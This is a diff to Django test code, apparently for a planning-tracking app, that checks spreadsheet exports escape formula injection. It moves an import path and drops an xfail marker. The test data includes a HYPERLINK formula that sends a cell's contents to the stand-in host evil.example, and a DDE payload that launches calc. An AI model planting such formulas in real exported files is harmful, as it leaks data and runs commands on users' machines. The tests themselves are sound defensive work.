@@ -10,7 +10,6 @@ from openpyxl import load_workbook
 from planwatch.web.plan.models import IndicatorRecord
 from planwatch.web.projects.models import ProblemEventRecord, ProgressRecord, ProjectRecord
 from planwatch.web.submissions.models import Submission
-from tests.conftest import BEFORE_IN_YEAR_DATA
 from tests.web.views.conftest import user
 
 LEAK = '=HYPERLINK("http://evil.example/?leak="&B3,"点击查看")'
@@ -64,13 +63,9 @@ def test_a_planted_formula_is_downloaded_as_inert_text(office, plant):
     assert "'" + LEAK in cells(response.content)
 
 
-@pytest.mark.xfail(
-    reason=BEFORE_IN_YEAR_DATA,
-    strict=False,
-)
 @pytest.mark.django_db
 def test_the_projects_workbook_export_writes_a_planted_unit_as_text(tmp_path):
-    from planwatch.web.projects.services import export_workbook
+    from planwatch.services.project_register import export_workbook
 
     project = ProjectRecord.objects.order_by("id").first()
     ProjectRecord.objects.filter(pk=project.pk).update(unit="-1+1|' /C calc'!A0")
